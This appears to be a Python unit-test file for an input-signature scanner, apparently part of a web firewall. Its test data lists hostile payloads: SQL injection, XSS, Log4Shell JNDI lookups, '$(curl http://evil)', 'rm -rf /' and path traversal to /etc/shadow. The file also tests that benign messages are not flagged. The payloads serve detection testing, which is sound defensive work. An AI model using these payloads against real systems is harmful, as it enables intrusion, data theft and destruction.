"""edgegate.policy.signatures: folding, anchors, every set's tripwires, and what must not trip them."""

from edgegate.policy.signatures import SETS, Scanner, fold, json_unescaped, percent_decode
from tests.portable import TestCase

ALL = tuple(SETS)

ATTACKS = [
    ("sqli", b"name=' OR '1'='1"),
    ("sqli", b"1 UNION   SELECT password FROM users"),
    ("sqli", b"1 union/**/select 1"),
    ("sqli", b"1%20UNION%20SELECT%201"),
    ("sqli", b"x'; DROP TABLE users; --"),
    ("sqli", b"1 AND SLEEP(5)"),
    ("sqli", b"1 union/*x*/select 2"),
    ("sqli", b"1 and sleep (5)"),
    ("cmd", b"${${lower:j}ndi:ldap://evil/a}"),
    ("cmd", b"${${::-j}${::-n}di:ldap://x}"),
    ("xss", b"<ScRiPt>alert(1)</script>"),
    ("xss", b'<img src=x onerror = "alert(1)">'),
    ("xss", b"<a href='JavaScript:alert(1)'>"),
    ("xss", b"%3Cscript%3E"),
    ("xss", b"%253Cscript%253E"),  # encoded twice
    ("cmd", b"host=example.com; rm -rf /"),
    ("cmd", b"${jndi:ldap://evil/a}"),
    ("cmd", b"$(curl http://evil)"),
    ("path", b"../../etc/shadow"),
    ("path", b"..%2F..%2Fetc"),
    ("path", b"file\x00.png"),
    ("nosql", b'{"user": {"$ne": null}}'),
    ("proto", b'{"__proto__": {"admin": true}}'),
]

BENIGN = [
    b'{"type":"say","text":"Should we go with \'tea\' or \'coffee\'?"}',
    b'{"type":"say","text":"\\"yes\\" or \\"no\\""}',
    b"he said 'hi'; then left",
    b"'k' and 'ok'",
    b"Note: 'beta'-- not final",
    b"we drop tables from the report",
    b"I'll sleep(ish) now",
    b'{"team":"constructor","stage":"prototype","op":"$in"}',
    b'{"type":"chat","text":"Let us select a union rep tomorrow"}',
    b'{"type":"tick","seq":123456,"ok":true,"data":"abcdefghijabcdefghij"}',
    b'{"price": 12.5, "currency": "EUR", "note": "5% off, 2 < 3 is true"}',
    b'{"path": "/api/v1/items", "query": "a=1&b=2"}',
    b"Don't worry, it's fine",
    b"email me at a@b.example",
]


class FoldTests(TestCase):
    def test_fold_lowercases_and_collapses_whitespace_and_comments(self):
        self.assertEqual(fold(b"UNION \t\r\n SELECT/**/X"), b"union select x")

    def test_percent_decode_decodes_valid_escapes_and_keeps_the_rest(self):
        self.assertEqual(percent_decode(b"a%20b%zz%4"), b"a b%zz%4")


class UnescapeTests(TestCase):
    def test_json_escapes_are_decoded_everywhere(self):
        self.assertEqual(json_unescaped(b'{"a":"\\u003cscript\\u003e \\/x \\t\\"q\\""}'),
                         b'{"a":"<script> /x \t"q""}')

    def test_surrogate_pairs_join_and_lone_ones_become_a_question_mark(self):
        self.assertEqual(json_unescaped(b'\\ud83d\\ude00 \\ud800 \\udc00x'), "\U0001F600 ? ?x".encode())

    def test_an_escaped_backslash_is_not_the_start_of_an_escape(self):
        self.assertEqual(json_unescaped(b'a\\\\u0041'), b"a\\u0041")

    def test_broken_escapes_are_kept(self):
        self.assertEqual(json_unescaped(b'\\uzz12 \\u12'), b"\\uzz12 \\u12")


class ScannerTests(TestCase):
    def test_each_attack_is_found_by_its_set(self):
        for name, text in ATTACKS:
            with self.subTest(text=text):
                hit = Scanner((name,)).find(text)
                self.assertIsInstance(hit, tuple)
                self.assertEqual(hit[0], name)

    def test_each_attack_is_missed_when_its_set_is_off(self):
        for name, text in ATTACKS:
            others = tuple(n for n in ALL if n != name)
            with self.subTest(text=text):
                hit = Scanner(others).find(text)
                # Some attacks trip two sets; none trips a set it is not listed under by accident.
                self.assertTrue(hit is None or hit[0] != name)

    def test_benign_messages_pass_every_set(self):
        s = Scanner(ALL)
        for text in BENIGN:
            with self.subTest(text=text):
                self.assertIsNone(s.find(text))

    def test_deny_list_is_case_and_space_insensitive(self):
        s = Scanner((), ("Secret  Project",))
        self.assertEqual(s.find(b"about the SECRET\tproject"), ("deny", "Secret  Project"))
        self.assertIsNone(s.find(b"a secretproject, written as one word"))

    def test_every_pattern_is_compiled_once(self):
        s = Scanner(ALL + ALL, ("<script",))
        n = sum(len(v) for v in SETS.values())
        names = sum(1 for v in SETS.values() for p in v if p.endswith('":'))
        self.assertEqual(s.count, n + names)  # a member name also compiles as '"name" :'

    def test_member_name_patterns_match_pretty_printed_json(self):
        self.assertEqual(Scanner(("nosql",)).find(b'{"u": {"$ne" : 1}}'), ("nosql", '"$ne":'))

    def test_a_long_deny_list_finds_the_same_in_short_and_long_texts(self):
        words = ["forbidden%d" % i for i in range(20)] + ["project aurora", "codename"]
        s = Scanner(("xss",), words)
        for text in (b"a CODENAME here", b"x" * 300 + b" a codename here", b"the Project  Aurora plan",
                     b"y" * 300 + b"project aurora", b"forbidden17", b"z" * 500 + b"forbidden17"):
            with self.subTest(text=text[-20:]):
                hit = s.find(text)
                self.assertTrue(hit is not None and hit[0] == "deny", hit)
        self.assertIsNone(s.find(b"nothing to see"))
        self.assertIsNone(s.find(b"q" * 400))

    def test_an_empty_scanner_finds_nothing(self):
        self.assertIsNone(Scanner().find(b"<script>"))
